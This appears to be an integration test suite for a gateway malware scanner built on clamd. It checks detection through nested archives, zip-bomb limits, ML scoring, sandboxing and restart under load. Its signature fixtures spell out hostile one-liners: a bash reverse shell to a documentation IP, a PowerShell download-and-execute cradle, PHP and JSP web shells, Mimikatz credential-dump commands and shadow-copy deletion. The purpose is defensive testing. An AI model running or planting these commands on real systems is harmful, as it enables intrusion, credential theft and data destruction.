"""sekisho-scan and its clamd on a running gateway, asked by the command line: every way a file can come, and kills."""

import array
import bz2
import fcntl
import gzip
import hashlib
import io
import json
import lzma
import os
import pathlib
import random
import signal
import socket
import struct
import sys
import tarfile
import threading
import zipfile

from harness import ROOT, LabTest, unittest

sys.path.insert(0, str(ROOT / "tools/malware_model/samples"))

import harmless_scripts  # noqa: E402
import macros  # noqa: E402
import pdfs  # noqa: E402
import scripts  # noqa: E402

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
THREAT = "EICAR-Test-File"


def unsigned(make):
    """A file as the generator writes them, which the model has not learned from, and no signature knows."""
    data = make(random.Random(f"{make.__name__} unseen"))
    return data if isinstance(data, bytes) else data.encode()


def zipped(data, name="file.bin", count=1, encrypted=False):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(count):
            archive.writestr(f"{i}-{name}", data)
    if not encrypted:
        return out.getvalue()
    marked = bytearray(out.getvalue())  # general purpose bit 0, in the member's header and in the directory
    marked[6] |= 1
    marked[marked.find(b"PK\x01\x02") + 8] |= 1
    return bytes(marked)


def tarred(data):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("file.bin")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def nested(data, levels):
    for i in range(levels):
        data = zipped(data, f"level{i}.zip")
    return data


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
# What each shipped rule finds, and beside it the same without the one part that makes it harm.
SHIPPED = {
    "Sekisho.Shellcode.BlockApi32": (bytes.fromhex("fce88200000060" "89e531c064") + bytes(50),
                                     bytes.fromhex("fce88200000060" "89e531c165") + bytes(50)),
    "Sekisho.Shellcode.BlockApi64": (bytes.fromhex("fc4883e4f0e8c0000000" "415141505251") + bytes(50),
                                     bytes.fromhex("fc4883e4f0e8c0000000" "415141505252") + bytes(50)),
    "Sekisho_Script_PowerShellDownload": (
        b"powershell -w hidden IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')",
        b"powershell Invoke-WebRequest http://a.example/x -OutFile x; IEX(1)"),
    "Sekisho_Script_ShellWithDownloadedCode": (
        b"s=CreateObject('WScript.Shell');x=CreateObject('MSXML2.XMLHTTP');a=CreateObject('ADODB.Stream');"
        b"a.SaveToFile 'x.exe';s.Run 'x.exe'",
        b"s=CreateObject('WScript.Shell');x=CreateObject('MSXML2.XMLHTTP');s.Run 'notepad'"),
    "Sekisho_Script_ReverseShell": (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", b"bash -i > /tmp/x 0>&1"),
    "Sekisho_WebShell_Php": (b"<?php @eval(base64_decode($_POST['x'])); ?>", b"<?php echo htmlspecialchars($_POST['x']); ?>"),
    "Sekisho_WebShell_Jsp": (b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
                             b'<% out.print(request.getParameter("c")); %>'),
    "Sekisho_Macro_AutoRunShell": (OLE + b"Sub AutoOpen() CreateObject('WScript.Shell') URLDownloadToFile",
                                   OLE + b"Sub AutoOpen() MsgBox"),
    "Sekisho_Rtf_EquationEditor": (b"{\\rtf1{\\object\\objdata 0105000002000000 0b000000 4571756174696f6e2e33 00}}",
                                   b"{\\rtf1 4571756174696f6e2e33}"),
    "Sekisho_Pdf_LaunchCommand": (b"%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n%%EOF",
                                  b"%PDF-1.4\n1 0 obj<</Type/Action/S/URI/URI(cmd.exe)>>endobj\n%%EOF"),
    "Sekisho_Shortcut_Shell": (LINK + b"powershell http://a.example/x", LINK + b"notepad http://a.example/x"),
    "Sekisho_Tool_CredentialDump": (b"sekurlsa::logonpasswords and lsadump::sam", b"sekurlsa::logonpasswords"),
    "Sekisho_Miner_Configuration": (b'{"donate-level":1,"url":"stratum+tcp://a.example"}', b'{"donate-level":1}'),
    "Sekisho_Ransom_ShadowCopies": (b"vssadmin delete shadows /all & bcdedit /set recoveryenabled no",
                                    b"vssadmin list shadows"),
}


class Scan(LabTest):
    lab_options = {"malware_signatures": str(ROOT / "rules/malware/starter")}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.files = pathlib.Path(cls.lab.directory) / "files"
        cls.files.mkdir()

    def setUp(self):
        self.eventually(lambda: self.status()["clamd"] == "running", "clamd's first answer")

    def supervised(self):
        state = json.loads((self.gateway.run_dir / "supervisor.json").read_text())
        return {child["name"]: child for child in state["processes"]}

    def status(self):
        return self.gateway.json("scan", "--status")

    def scan(self, data, name="file.bin"):
        path = self.files / name
        path.write_bytes(data)
        done = self.gateway.command("scan", path, "--json", check=False)
        verdict = json.loads(done.stdout)["files"][0]
        self.assertEqual(done.returncode, {"clean": 0, "failed": 4}.get(verdict["verdict"], 1), verdict)
        self.assertEqual(verdict["sha256"], hashlib.sha256(data).hexdigest())
        return verdict

    def pid_of_clamd(self):
        keeper = self.supervised()["sekisho-clamd"]["pid"]
        try:
            return int(pathlib.Path(f"/proc/{keeper}/task/{keeper}/children").read_text().split()[0])
        except (IndexError, FileNotFoundError):
            return 0

    def test_eicar_is_found_however_it_is_packed(self):
        routes = {
            "plain": EICAR, "zip": zipped(EICAR), "zip in zip": nested(EICAR, 2), "eight zips deep": nested(EICAR, 8),
            "gzip": gzip.compress(EICAR), "bzip2": bz2.compress(EICAR), "xz": lzma.compress(EICAR),
            "tar": tarred(EICAR), "tar.gz": gzip.compress(tarred(EICAR)), "zip in tar": tarred(zipped(EICAR)),
            "a hundred in a zip": zipped(EICAR, count=100),
        }
        for name, data in routes.items():
            with self.subTest(name):
                verdict = self.scan(data)
                self.assertEqual((verdict["verdict"], verdict["threat"]), ("infected", THREAT), verdict)
                self.assertEqual(verdict["engine"], "clamav")

    def test_what_nobody_can_look_into_is_told_apart(self):
        for name, data, verdict in (("encrypted", zipped(b"secret" * 99, encrypted=True), "encrypted"),
                                    ("too deep", nested(EICAR, 24), "over_limits"),
                                    ("a bomb as zip", zipped(bytes(300 << 20)), "over_limits"),
                                    ("a bomb as gzip", gzip.compress(bytes(300 << 20)), "over_limits")):
            with self.subTest(name):
                answer = self.scan(data)
                self.assertEqual(answer["verdict"], verdict, answer)
                self.assertTrue(answer["reason"])

    def test_each_shipped_signature_finds_what_it_is_for_and_not_its_neighbour(self):
        for name, (harm, fine) in SHIPPED.items():
            with self.subTest(name):
                verdict = self.scan(harm)
                self.assertEqual((verdict["verdict"], verdict.get("threat")), ("infected", name), verdict)
                self.assertEqual(self.scan(fine)["verdict"], "clean", name)

    def test_machine_learning_suspects_what_no_signature_knows_and_says_why(self):
        for make in (scripts.js_packed, scripts.ps_obfuscated, scripts.bat_variables, macros.macro_shellcode, pdfs.pdf_packed_script):
            with self.subTest(make.__name__):
                answer = self.scan(unsigned(make))
                self.assertEqual((answer["verdict"], answer["engine"]), ("clean", "ml"), answer)
                self.assertIn(answer["suspicion"], ("fair", "strong"))
                self.assertGreater(answer["score"], 500)
                self.assertTrue(answer["threat"].startswith("ML."), answer)
                shares = [m["share"] for m in answer["measures"]]
                self.assertTrue(shares and shares == sorted(shares, reverse=True), shares)
                told = self.gateway.command("scan", self.files / "file.bin").stdout
                self.assertIn("machine learning: ", told)
                self.assertIn(answer["measures"][0]["meaning"], told)
        for make in (harmless_scripts.install_sh, harmless_scripts.admin_ps, macros.recorded_macros, pdfs.pdf_report):
            with self.subTest(make.__name__):
                answer = self.scan(unsigned(make))
                self.assertEqual((answer["verdict"], answer["suspicion"]), ("clean", "none"), answer)
        self.assertNotIn("score", self.scan(os.urandom(3000)))
        status = self.status()
        self.assertTrue(status["model"])
        self.assertGreaterEqual(status["scored"], 9)

    def test_clean_files_of_many_types_are_clean_and_named(self):
        programs = {"elf": pathlib.Path("/bin/ls").read_bytes(), "script": b"#!/bin/sh\necho hello\n",
                    "html": b"<!DOCTYPE html><p>hello", "pdf": b"%PDF-1.4\n%%EOF\n", "text": b"hello\n",
                    "zip": zipped(b"hello"), "gzip": gzip.compress(b"hello"), "tar": tarred(b"hello"),
                    "png": b"\x89PNG\r\n\x1a\n" + bytes(64), "data": os.urandom(100_000)}
        for kind, data in programs.items():
            with self.subTest(kind):
                verdict = self.scan(data)
                self.assertEqual((verdict["verdict"], verdict["type"]), ("clean", kind), verdict)
                self.assertTrue(self.scan(data)["from_cache"])

    def test_the_scanner_is_nobody_and_may_do_little(self):
        for name, user in (("sekisho-scan", "64107"), ("sekisho-clamd", "64108")):
            pid = self.supervised()[name]["pid"]
            lines = dict(line.split(":\t", 1) for line in
                         pathlib.Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
            self.assertEqual(lines["Uid"].split(), [user] * 4)
            self.assertEqual(int(lines["CapEff"], 16) | int(lines["CapPrm"], 16), 0)
            self.assertEqual((lines["Seccomp"], lines["NoNewPrivs"]), ("2", "1"))
        clamd = pathlib.Path(f"/proc/{self.pid_of_clamd()}/status").read_text()
        self.assertIn("Uid:\t64108", clamd)
        self.assertIn("Seccomp:\t2", clamd)

    def test_an_unsealed_file_is_refused(self):
        path = self.files / "open.bin"
        path.write_bytes(EICAR)
        answer = self.ask_with(os.open(path, os.O_RDONLY))
        self.assertEqual(answer["verdict"], "failed")
        self.assertIn("sealed", answer["reason"])

    def ask_with(self, descriptor):
        body = b'{"v":1,"op":"scan","name":"x"}'
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as asker:
            asker.settimeout(60)
            asker.connect(str(self.gateway.run_dir / "scan.sock"))
            asker.sendmsg([struct.pack("<I", len(body)) + body],
                          [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor]))])
            os.close(descriptor)
            head = asker.recv(4, socket.MSG_WAITALL)
            if len(head) < 4:
                raise ConnectionError("sekisho-scan ended with the question")
            return json.loads(asker.recv(struct.unpack("<I", head)[0], socket.MSG_WAITALL))

    def sealed(self, data):
        file = os.memfd_create("x", os.MFD_ALLOW_SEALING)
        os.write(file, data)
        fcntl.fcntl(file, 1033, 15)  # F_ADD_SEALS: all
        return file

    def test_killed_under_load_both_are_back_and_no_verdict_is_wrong(self):
        stop, wrong, asked = threading.Event(), [], [0]

        def load(number):
            i = 0
            while not stop.is_set():
                i += 1
                harm = i % 3 == 0
                data = (zipped(EICAR) if harm else b"fine ") + b" %d %d" % (number, i)
                try:
                    answer = self.ask_with(self.sealed(data))
                except OSError:  # sekisho-scan is not there, or died with the question
                    continue
                asked[0] += 1
                if answer["verdict"] not in (("infected", "failed") if harm else ("clean", "failed")):
                    wrong.append(answer)

        threads = [threading.Thread(target=load, args=(n,)) for n in range(3)]
        for thread in threads:
            thread.start()
        try:
            for _ in range(3):
                clamd = self.pid_of_clamd()
                os.kill(clamd, signal.SIGKILL)
                self.eventually(lambda before=clamd: self.pid_of_clamd() not in (0, before), "another clamd")
                scanner = self.supervised()["sekisho-scan"]["pid"]
                os.kill(scanner, signal.SIGKILL)
                self.eventually(lambda before=scanner: self.supervised()["sekisho-scan"]["pid"] not in (0, before),
                                "another sekisho-scan")
                seen = asked[0]
                self.eventually(lambda before=seen: asked[0] > before + 5, "answers after the kills")
        finally:
            stop.set()
            for thread in threads:
                thread.join()
        self.assertEqual(wrong, [])
        self.eventually(lambda: self.status()["clamd"] == "running", "clamd's answer")
        self.assertEqual(self.scan(EICAR)["verdict"], "infected")


class OwnSet(LabTest):
    """A set of one's own, by hash and by pattern, taken up while everything runs."""

    lab_options = {"malware_signatures": str(ROOT / "rules/malware/starter")}

    def build(self, *lines):
        source = pathlib.Path(self.lab.directory) / "own.txt"
        source.write_text("\n".join(lines) + "\n")
        target = pathlib.Path(self.lab.directory) / "malware.db"
        self.gateway.command("content", "build", "--malware", source, "--output", target)
        target.chmod(0o644)

    def verdict(self, data):
        path = pathlib.Path(self.lab.directory) / "file.bin"
        path.write_bytes(data)
        return json.loads(self.gateway.command("scan", path, "--json", check=False).stdout)["files"][0]

    def test_a_new_set_is_in_force_within_seconds_and_a_damaged_one_leaves_the_old(self):
        by_hash, by_pattern = b"harm by hash", b"some harm by pattern in it"
        self.build(hashlib.sha256(by_hash).hexdigest() + f":{len(by_hash)}:Own.Hash",
                   "Own.Pattern:0:*:" + b"harm by pattern".hex())

        def both_found():
            one, other = self.verdict(by_hash), self.verdict(zipped(by_pattern))
            return (one["threat"], one["engine"], other["threat"]) == ("Own.Hash", "hash", "Own.Pattern")

        self.eventually(both_found, "the new set")
        self.assertEqual(self.verdict(zipped(by_hash))["threat"], "Own.Hash")  # by clamd, within
        (pathlib.Path(self.lab.directory) / "malware.db").write_bytes(b"damaged")
        self.eventually(lambda: "goes without the own set" in self.gateway.log_tail(60), "the complaint")
        self.assertEqual(self.verdict(by_hash)["threat"], "Own.Hash")
        self.eventually(lambda: self.verdict(EICAR)["threat"] == THREAT, "what is shipped")


if __name__ == "__main__":
    unittest.main()
